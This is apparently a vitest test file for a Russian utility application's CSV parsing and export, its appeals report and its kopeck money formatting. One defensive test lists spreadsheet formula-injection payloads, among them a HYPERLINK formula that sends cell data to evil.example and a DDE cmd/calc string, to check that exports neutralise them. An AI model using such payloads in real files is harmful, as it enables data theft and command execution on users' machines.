// The CSV module (reading uploads, writing exports with formulas neutralised),
// and money parsing/formatting.
import { describe, expect, it } from 'vitest';
import { appealReportCsv } from '../../domain/appeal-report';
import { detectDelimiter, FORMULA_START, parseCsv, toCsv } from '../../domain/csv';
import { readTariffFile, tariffRatesCsv, TEMPLATE_RATES } from '../../domain/tariff-import';
import { formatKop, formatQuantity, kopToDecimal, mulDivRound, parseRubToKop, rubToKop } from '../../domain/money';

const fields = (text: string) => parseCsv(text).records.map((r) => r.fields);

describe('parseCsv', () => {
  it('reads plain records with the delimiter of the header line', () => {
    expect(fields('a,b,c\n1,2,3\n')).toEqual([
      ['a', 'b', 'c'],
      ['1', '2', '3'],
    ]);
    expect(fields('a;b\n2155,09;да')).toEqual([
      ['a', 'b'],
      ['2155,09', 'да'],
    ]);
    expect(detectDelimiter('a\tb\tc\n')).toBe('\t');
    expect(detectDelimiter('"x;y",b,c\n')).toBe(',');
  });

  it('handles quoted fields: delimiters, doubled quotes and line breaks inside', () => {
    const r = parseCsv('item;note\r\nC1;"Курская; 2024"\r\nC2;"он сказал ""да"""\r\nC3;"две\r\nстроки"\r\nC4;x\r\n');
    expect(r.errors).toEqual([]);
    expect(r.records.map((x) => x.fields)).toEqual([
      ['item', 'note'],
      ['C1', 'Курская; 2024'],
      ['C2', 'он сказал "да"'],
      ['C3', 'две\nстроки'],
      ['C4', 'x'],
    ]);
    // The record after a two-line value starts on file line 6.
    expect(r.records.map((x) => x.line)).toEqual([1, 2, 3, 4, 6]);
  });

  it('skips a BOM and blank lines, keeps empty fields, takes CR line ends', () => {
    expect(fields('\ufeffa;b;c\r\r1;;\r\n\n')).toEqual([
      ['a', 'b', 'c'],
      ['1', '', ''],
    ]);
  });

  it('reports broken quoting with the line it starts on and drops that record; a stray quote in a bare value is a character, as in Excel', () => {
    const r = parseCsv('a;b\n1;x"y\n2;"ok"z\n3;"fine"\n4;"never closed\n5;6\n');
    expect(r.errors).toEqual([
      { line: 3, message: expect.stringContaining('Значение в кавычках, начатое в этой строке, закрыто неправильно') },
      { line: 5, message: 'Кавычка, открытая в этой строке, не закрыта до конца файла' },
    ]);
    // The badly closed value runs on to the next quote, so line 4 goes with it: the file is refused either way.
    expect(r.records.map((x) => x.fields)).toEqual([
      ['a', 'b'],
      ['1', 'x"y'],
    ]);
    // Reading goes on after a bad record once the quotes pair up again.
    const after = parseCsv('a;b\n1;"ok"z\n2;"3"\n4;5\n');
    expect(after.errors.map((e) => e.line)).toEqual([2]);
    expect(after.records).toEqual([
      { line: 1, fields: ['a', 'b'] },
      { line: 4, fields: ['4', '5'] },
    ]);
  });

  it('writes what it reads back', () => {
    const rows = [
      ['item', 'note'],
      ['C1', 'a;b'],
      ['C2', 'say "hi"'],
      ['C3', 'line\nbreak'],
      ['C4', ' padded '],
    ];
    expect(parseCsv(toCsv(rows)).records.map((r) => r.fields)).toEqual(rows);
  });
});

describe('spreadsheet formula injection', () => {
  // What a staff member's Excel would run: a text cell starting with = + - @, tab or CR.
  const attacks = ['=HYPERLINK("http://evil.example/?"&A1;"Подробнее")', '+7 (900) 123-45-67', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd', '\t=1+1', '\r=1+1'];

  it('writes every dangerous text cell with a leading apostrophe, so it reads back as text, not a formula', () => {
    const file = toCsv([['Комментарий'], ...attacks.map((a) => [a])]);
    const cells = parseCsv(file).records.slice(1).map((r) => r.fields[0]!);
    // (A line end inside a value reads back as '\n', whatever the file used.)
    expect(cells).toEqual(attacks.map((a) => `'${a}`.replace('\r', '\n')));
    for (const cell of cells) expect(cell).not.toMatch(FORMULA_START);
  });

  it('leaves numbers alone: a negative count is data, written bare', () => {
    const file = toCsv([['Итог', 'Текст'], [-5, '-5']]);
    expect(file.split('\r\n')[1]).toBe(`-5;"'-5"`);
    expect(parseCsv(file).records[1]!.fields).toEqual(['-5', "'-5"]);
  });

  it('leaves ordinary text and the cells our exports hold untouched', () => {
    const rows = [['ул. Садовая: 1, 3, 5–9; ул. Лесная', '2155,09', '*', 'C8.1', 'ВЛ-0,4 кВ', '10:00']];
    expect(parseCsv(toCsv(rows)).records.map((r) => r.fields)).toEqual(rows);
    // The tariff export still imports as is.
    expect(readTariffFile('csv', tariffRatesCsv(TEMPLATE_RATES))).toMatchObject({ problems: [], rates: expect.arrayContaining([expect.objectContaining({ item: 'C8.1' })]) });
  });

  it('neutralises a note typed by staff in the tariff export', () => {
    const csv = tariffRatesCsv([{ ...TEMPLATE_RATES[0]!, note: '=1+1' }]);
    expect(parseCsv(csv).records[1]!.fields.at(-1)).toBe("'=1+1");
  });
});

describe('the appeals report CSV', () => {
  it('keeps its dialect: «;», every text cell quoted, counts bare, CRLF after every row', () => {
    const csv = appealReportCsv({ from: '2026-01-01', to: '2026-03-31' }, [{ topic: 'metering', kind: 'complaint', channel: 'written', total: 3, onTime: 1, late: 1, notAnswered: 1 }]);
    const lines = csv.split('\r\n');
    expect(lines[0]).toBe('"Период";"Тема";"Вид";"Канал поступления";"Всего";"Ответ в срок";"Ответ с нарушением срока";"Без ответа"');
    expect(lines[1]).toBe('"2026-01-01 — 2026-03-31";"Коммерческий учёт электрической энергии";"Жалоба";"В письменной форме";3;1;1;1');
    expect(lines[2]).toBe('');
    expect(lines).toHaveLength(3);
  });
});

describe('money in kopecks', () => {
  it('parses roubles exactly', () => {
    expect(parseRubToKop('2 155,09')).toBe(215_509);
    expect(parseRubToKop('2\u00a0332\u00a0446')).toBe(233_244_600);
    expect(parseRubToKop('10903.35')).toBe(1_090_335);
    expect(parseRubToKop('0,5')).toBe(50);
    for (const bad of ['', '-5', '1,234', '12,3,4', 'abc', '1e5']) expect(parseRubToKop(bad)).toBeNull();
    expect(rubToKop(2155.09)).toBe(215_509);
    expect(rubToKop(0.1 + 0.2)).toBeNull();
    expect(kopToDecimal(215_509)).toBe('2155.09');
    expect(kopToDecimal(5)).toBe('0.05');
  });

  it('rounds a product half away from zero, exactly for big numbers', () => {
    expect(mulDivRound(233_244_600, 137, 1000)).toBe(31_954_510); // 319 545,102 ₽ → 319 545,10
    expect(mulDivRound(100_025, 2200, 10_000)).toBe(22_006); // 220,055 → 220,06
    expect(mulDivRound(-100_025, 2200, 10_000)).toBe(-22_006);
    // 10 000 000 ₽/kW × 1 000 000,001 kW: the product passes 2^53, the result does not
    expect(mulDivRound(1_000_000_000, 1_000_000_001, 1000)).toBe(1_000_000_001_000_000);
  });

  it('writes amounts the Russian way', () => {
    const plain = (s: string) => s.replace(/\u00a0/g, ' ');
    expect(plain(formatKop(233_244_600))).toBe('2 332 446 ₽');
    expect(plain(formatKop(215_509))).toBe('2 155,09 ₽');
    expect(plain(formatKop(10_500_000, { kopecks: 'always' }))).toBe('105 000,00 ₽');
    expect(plain(formatKop(-34_855_573))).toBe('−348 555,73 ₽');
    expect(formatQuantity(0.15)).toBe('0,15');
    expect(plain(formatQuantity(1500))).toBe('1 500');
    expect(formatQuantity(12.345)).toBe('12,345');
  });
});
